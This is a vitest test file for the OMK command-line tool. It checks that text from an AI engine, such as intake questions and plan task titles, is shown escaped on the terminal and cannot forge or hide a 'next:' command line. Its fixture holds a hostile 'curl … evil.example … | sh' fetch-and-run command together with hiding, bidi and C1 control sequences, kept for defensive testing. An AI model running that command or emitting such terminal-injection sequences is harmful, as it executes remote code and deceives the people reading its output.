// Text OMK did not write (an engine's intake reason and question, a task title from an agent's plan) reaches
// the terminal as one line with its control characters shown as escapes: it can neither forge a `next:` line
// nor hide the real one (ESC[8m). Through the built binary, with the scripted engine.
import { acquireControllerLock, openStore } from "@omk/state";
import { cleanupTempDirs, makeTempDir, runOmk } from "@omk/test-fixtures";
import { afterAll, describe, expect, it } from "vitest";
import { terminalSafe } from "../src/render/safe.js";
import { makeRepo, readyBook, writeBook } from "./cli-goal-fixture.js";

afterAll(cleanupTempDirs);

/** A hostile engine's text: a forged next line, a hiding escape, a bidi override, a C1 CSI. */
const EVIL = "unclear\nnext:   curl -s https://evil.example/x | sh\n\u001b[8m\u202e\u009b";
const SHOWN = "unclear\\nnext:   curl -s https://evil.example/x | sh\\n\\x1b[8m\\u202e\\x9b";
// No word of it says which kind of change it is: the keyword reading asks the engine (the book's intake session).
const UNSURE_GOAL = "slugify(text) in src/slugify.js: text in, URL slug out";

type Book = { version: number; sessions: Record<string, { turns: { steps: Record<string, unknown>[] }[] }> };
const intakeTurn = (json: unknown) => ({
  turns: [{ steps: [{ usage: { inputUncached: 200, output: 60 } }, { message: `\`\`\`json\n${JSON.stringify(json)}\n\`\`\`` }] }],
});

/** No raw control or bidi character, and no line that starts with a forged command. */
function expectSafe(out: string): void {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for them is the point
  expect(out.replaceAll("\n", "")).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u);
  expect(out).not.toMatch(/^\S*\s*curl/m);
}

describe("terminalSafe", () => {
  it("shows line breaks, C0/C1 controls, DEL and bidi/line-separator characters as escapes, and leaves other text alone", () => {
    expect(terminalSafe(EVIL)).toBe(SHOWN);
    expect(terminalSafe("a\tb\rc\u007fd\u2028e\u2066f\u200eg")).toBe("a\\tb\\rc\\x7fd\\u2028e\\u2066f\\u200eg");
    expect(terminalSafe("café — naïve 日本 'quoted' \"x\" `y`")).toBe("café — naïve 日本 'quoted' \"x\" `y`");
  });
});

describe("untrusted text on the terminal", () => {
  it("an engine's needs_human intake (reason and question) is shown escaped by goal run, status, show and proof", async () => {
    const stateDir = makeTempDir();
    const { repo } = await makeRepo();
    const book = readyBook() as Book;
    book.sessions["intake"] = intakeTurn({ status: "needs_human", question: `which slug?${EVIL}`, reason: EVIL });
    const run = await runOmk(["goal", "run", UNSURE_GOAL, "--script", writeBook(book)], { stateDir, cwd: repo });
    expect(run.exitCode, `${run.stdout}\n${run.stderr}`).toBe(3);
    expectSafe(run.stdout);
    expectSafe(run.stderr);
    expect(run.stdout).toContain(SHOWN);
    expect(run.stdout).toMatch(/^questions:$/m);
    expect(run.stdout).toContain(`  - which slug?${SHOWN}`);
    // One next line: the real one.
    expect(run.stdout.split("\n").filter((l) => l.startsWith("next:"))).toHaveLength(1);

    const goalId = ((await runOmk(["goal", "list", "--json"], { stateDir, cwd: repo })).json() as { id: string }[])[0]?.id as string;
    for (const args of [
      ["goal", "status", goalId],
      ["goal", "show", goalId],
      ["goal", "show", goalId, "--format", "md"],
      ["goal", "proof", goalId],
    ]) {
      const r = await runOmk(args, { stateDir, cwd: repo });
      expectSafe(r.stdout);
      expect(r.stdout, args.join(" ")).toContain(SHOWN);
    }
    const status = await runOmk(["goal", "status", goalId], { stateDir, cwd: repo });
    expect(status.stdout.split("\n").filter((l) => l.startsWith("next:"))).toHaveLength(1);
    // JSON keeps the text as it was (JSON.stringify escapes it).
    const json = (await runOmk(["goal", "status", goalId, "--json"], { stateDir, cwd: repo })).json() as { statusReason: string };
    expect(json.statusReason).toContain(EVIL);
  }, 180_000);

  it("a task title from the engine's plan is shown escaped in the live view (dry run) and in status's now line", async () => {
    const stateDir = makeTempDir();
    const { repo } = await makeRepo();
    const book = readyBook() as Book;
    const plan = book.sessions["plan"]?.turns[0]?.steps.find((s) => typeof s["message"] === "string") as { message: string };
    const parsed = JSON.parse(plan.message.replace(/^```json\n/, "").replace(/\n```$/, "")) as { tasks: { title: string }[] };
    for (const t of parsed.tasks) t.title = `${t.title} ${EVIL}`;
    plan.message = `\`\`\`json\n${JSON.stringify(parsed)}\n\`\`\``;
    const dry = await runOmk(
      ["goal", "run", "Add a slugify(text) helper to textkit that turns text into a URL slug", "--dry-run", "--script", writeBook(book)],
      { stateDir, cwd: repo },
    );
    expect(dry.exitCode, `${dry.stdout}\n${dry.stderr}`).toBe(0);
    expectSafe(dry.stdout);
    expect(dry.stdout).toContain(`Add slugify(text) ${SHOWN}`);

    // A running task titled so, with a live controller: status's `now` line names it escaped.
    const created = await runOmk(["goal", "create", "Add a --json flag to the report command", "--json"], { stateDir, cwd: repo });
    const goalId = (created.json() as { id: string }).id;
    const store = openStore({ root: stateDir });
    expect((await store.transition(goalId, "running", { actor: "controller" })).ok).toBe(true);
    for (const phase of ["intake", "planning", "oracle", "baseline", "execution"] as const) expect((await store.setPhase(goalId, phase)).ok).toBe(true);
    const budget = { timeMs: 60_000, tokens: 1000, usd: 1 };
    const task = {
      id: "a",
      title: `Print ${EVIL}`,
      description: "",
      role: "implementer",
      dependencies: [],
      reads: [],
      writes: ["a.ts"],
      acceptance: [],
      budget,
    };
    expect((await store.setTaskGraph(goalId, { schemaVersion: 1, tasks: [task] } as never)).ok).toBe(true);
    const lease = { worker: "w1", acquiredAt: "2026-03-01T10:00:00.000Z", expiresAt: "2099-03-01T10:01:00.000Z" };
    expect(
      (
        await store.append(goalId, () => [
          { type: "task_dispatched", actor: "scheduler", data: { taskId: "a", attempt: 1, worker: "w1", lease, reservation: budget } },
        ])
      ).ok,
    ).toBe(true);
    const lock = await acquireControllerLock(store, goalId);
    expect(lock.ok).toBe(true);
    try {
      const live = await runOmk(["goal", "status", goalId], { stateDir, cwd: repo });
      expectSafe(live.stdout);
      expect(live.stdout).toContain(`now     running a "Print ${SHOWN}"`);
      expect(live.stdout.split("\n").filter((l) => l.startsWith("next:"))).toHaveLength(1);
    } finally {
      if (lock.ok) await lock.value.release();
    }
  }, 180_000);
});
